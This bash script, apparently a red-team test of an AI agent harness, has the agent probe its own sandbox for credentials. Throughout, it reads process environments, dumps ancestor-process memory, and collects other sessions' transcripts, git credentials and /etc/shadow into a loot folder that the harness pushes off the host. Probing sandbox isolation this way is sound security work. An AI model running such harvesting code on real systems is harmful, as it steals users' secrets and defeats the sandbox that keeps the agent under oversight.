#!/bin/bash
# Red team (test/security): run by the agent, through the real CLI, in the session's sandbox.
# Tries every way issue 12 lists to reach a credential and writes what it read into loot/
# in the worktree, which the harness then pushes: whatever it found leaves the host.
#   bash secrets.sh KEY_FILE STATE_DIR OTHER_WORKTREE [WORLD_READABLE_FILE]
key_file=$1 state_dir=$2 other=$3 world=${4:-}
out="$PWD/loot"
mkdir -p "$out"
for dir in /proc/[0-9]*; do
  { tr '\0' '\n' < "$dir/environ"; } >> "$out/environ.txt" 2>/dev/null
  { tr '\0' ' ' < "$dir/cmdline"; echo; } >> "$out/cmdline.txt" 2>/dev/null
  echo "${dir#/proc/}" >> "$out/pids.txt"
done
# The memory of the nearest ancestors (without a sandbox, the harness is the CLI's parent):
# each writable region up to 256 MiB.
pid=$$ depth=0
while [ "$pid" -gt 1 ] 2>/dev/null && [ $((depth += 1)) -le 3 ]; do
  pid=$(awk '{print $4}' "/proc/$pid/stat" 2>/dev/null) || break
  [ -n "$pid" ] || break
  echo "ancestor $pid $(tr '\0' ' ' < "/proc/$pid/cmdline" 2>/dev/null | cut -c1-200)" >> "$out/ancestors.txt"
  while read -r range perms _; do
    case $perms in
      rw*) start=$((0x${range%-*})); end=$((0x${range#*-}))
           [ $((end - start)) -le 268435456 ] || continue
           dd if="/proc/$pid/mem" bs=65536 iflag=skip_bytes,count_bytes skip=$start count=$((end - start)) 2>/dev/null \
             | grep -a -o 'canary-[a-z]*-[0-9a-f]*' >> "$out/mem.txt" ;;
    esac
  done < "/proc/$pid/maps" 2>/dev/null
done
cat "$key_file" > "$out/key-file.txt" 2>&1
ls -laR "$state_dir" > "$out/state-dir.txt" 2>&1
cat "$state_dir"/sessions/*/transcript.jsonl "$state_dir"/sessions/*/home/.claude.json > "$out/transcripts.txt" 2>&1
ls -la "$other" "$state_dir"/sessions/*/home > "$out/others.txt" 2>&1
cat ~/.git-credentials /root/.git-credentials /etc/shadow > "$out/credential-files.txt" 2>&1
printf 'protocol=http\nhost=127.0.0.1\n\n' | git credential fill > "$out/credential-fill.txt" 2>&1
env > "$out/env.txt"
[ -z "$world" ] || cat "$world" > "$out/world.txt" 2>&1
echo done > "$out/ran"
